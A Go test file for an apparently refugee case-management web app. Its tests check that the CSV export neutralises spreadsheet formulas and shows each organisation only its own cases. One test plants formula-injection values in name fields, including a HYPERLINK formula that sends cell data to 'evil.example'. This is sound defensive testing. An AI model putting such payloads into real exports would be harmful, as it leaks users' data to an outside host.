package web_test

import (
	"encoding/csv"
	"html"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/havenhrd/haven"
)

// readCSV reads an export: a UTF-8 byte order mark, then RFC 4180 rows.
func readCSV(t *testing.T, body string) [][]string {
	t.Helper()
	rest, ok := strings.CutPrefix(body, "\uFEFF")
	if !ok {
		t.Fatalf("the export has no byte order mark: %q", body[:min(len(body), 20)])
	}
	rows, err := csv.NewReader(strings.NewReader(rest)).ReadAll()
	if err != nil {
		t.Fatalf("the export is not CSV: %v", err)
	}
	return rows
}

var colHead = regexp.MustCompile(`(?s)<th scope="col"[^>]*>(.*?)</th>`)

// pageColumns are the headers of the first table of a page.
func pageColumns(body string) []string {
	var out []string
	for _, m := range colHead.FindAllStringSubmatch(body, -1) {
		out = append(out, strings.TrimSpace(html.UnescapeString(regexp.MustCompile(`<[^>]+>`).ReplaceAllString(m[1], ""))))
	}
	return out
}

// TestExportNeutralisesFormulas: a cell a spreadsheet would run as a
// formula starts with a quote in the export, and the rest is kept.
func TestExportNeutralisesFormulas(t *testing.T) {
	f := newFixture(t, false)
	c := referral("Plain", 1, haven.PriorityNormal)
	c.Members[0].FamilyName = `=HYPERLINK("http://evil.example/?"&A1,"Open")`
	c.Members[0].GivenNames = "@SUM(1+1)"
	if err := f.app.Cases.CreateReferral(f.ctx, f.users[haven.OrgReferralPartner].actor, c); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct{ name, given string }{{"+1+1", "-2+3"}, {"\tTab", "\rReturn"}} {
		c := referral("More", 1, haven.PriorityNormal)
		c.Members[0].FamilyName, c.Members[0].GivenNames = tc.name, tc.given
		if err := f.app.Cases.CreateReferral(f.ctx, f.users[haven.OrgReferralPartner].actor, c); err != nil {
			t.Logf("a referral named %q is refused: %v", tc.name, err)
		}
	}
	b := f.browser(t)
	b.signIn(f.users[haven.OrgVisaOffice])
	r, body := b.get("/cases.csv")
	if r.StatusCode != 200 || r.Header.Get("Content-Type") != "text/csv; charset=utf-8" || !strings.HasPrefix(r.Header.Get("Content-Disposition"), "attachment;") {
		t.Fatalf("export: %d %v", r.StatusCode, r.Header)
	}
	rows := readCSV(t, body)
	seen := 0
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("a cell a spreadsheet runs: %q", cell)
			}
			if strings.Contains(cell, `HYPERLINK("http://evil.example/?"&A1,"Open")`) {
				seen++
				if want := `'@SUM(1+1) =HYPERLINK("http://evil.example/?"&A1,"Open")`; cell != want && !strings.HasPrefix(cell, "'") {
					t.Errorf("the name cell: %q", cell)
				}
			}
		}
	}
	if seen == 0 {
		t.Errorf("the export does not hold the name: %q", rows)
	}
}

// TestExportIsTheReadersView: each reader's export has the columns of its
// list page, in its language, and the cases of its list, all pages of it
// (more than a page here); a partner's holds none of another
// organisation's cases, and a search for one answers as a search for none.
func TestExportIsTheReadersView(t *testing.T) {
	f := newFixture(t, false)
	var refs []string
	for i := range 53 {
		c := f.refer(t, "Mine"+string(rune('A'+i%26))+string(rune('a'+i/26)), 1, haven.PriorityNormal)
		refs = append(refs, c.Reference)
	}
	other := &haven.Organisation{Kind: haven.OrgReferralPartner, Name: "Other partner", Country: "CH"}
	if err := f.app.Programme.CreateOrganisation(f.ctx, f.admin, other); err != nil {
		t.Fatal(err)
	}
	ou := f.enrolTOTP(t, other, "other-partner")
	theirs := referral("Theirs", 1, haven.PriorityUrgent)
	if err := f.app.Cases.CreateReferral(f.ctx, ou.actor, theirs); err != nil {
		t.Fatal(err)
	}
	for _, kind := range []haven.OrgKind{haven.OrgReferralPartner, haven.OrgVisaOffice, haven.OrgSettlementOrganisation} {
		for _, lang := range []string{"", "?lang=fr"} {
			b := f.browser(t)
			b.signIn(f.users[kind])
			_, page := b.get("/cases" + lang)
			rows := readCSV(t, func() string { _, body := b.get("/cases.csv" + lang); return body }())
			if kind == haven.OrgSettlementOrganisation {
				if len(rows) != 1 {
					t.Errorf("%s: %d rows", kind, len(rows)-1)
				}
				continue
			}
			if !strings.Contains(page, `href="/cases.csv`) {
				t.Errorf("%s: the list has no link to its export", kind)
			}
			if cols := pageColumns(page); !slices.Equal(rows[0], cols) {
				t.Errorf("%s%s: the export's columns\n%q\nthe page's\n%q", kind, lang, rows[0], cols)
			}
			var got []string
			for _, row := range rows[1:] {
				got = append(got, row[0])
			}
			want := slices.Clone(refs)
			if kind == haven.OrgVisaOffice {
				want = append(want, theirs.Reference)
			}
			slices.Sort(got)
			slices.Sort(want)
			if !slices.Equal(got, want) {
				t.Errorf("%s: the export holds %d cases, the list %d", kind, len(got), len(want))
			}
			if kind == haven.OrgReferralPartner && strings.Contains(strings.Join(slices.Concat(rows...), "|"), "Theirs") {
				t.Errorf("a partner's export holds another organisation's case")
			}
		}
	}
	// Exists but not yours: a search for the other partner's case answers
	// byte for byte as a search for a case that does not exist.
	b := f.browser(t)
	b.signIn(f.users[haven.OrgReferralPartner])
	_, none := b.get("/cases.csv?q=UNH-W-99999")
	for _, q := range []string{theirs.UNHCRNumber, theirs.Reference, "FamilyTheirs"} {
		if _, got := b.get("/cases.csv?q=" + q); got != none {
			t.Errorf("search %q: %q, a search for nothing: %q", q, got, none)
		}
	}
	// The filters and the order of the list are the export's.
	_, sorted := b.get("/cases.csv?sort=reference&dir=desc")
	rows := readCSV(t, sorted)
	if !slices.IsSortedFunc(rows[1:], func(a, b []string) int { return strings.Compare(b[0], a[0]) }) {
		t.Error("the export is not in the list's order")
	}
}
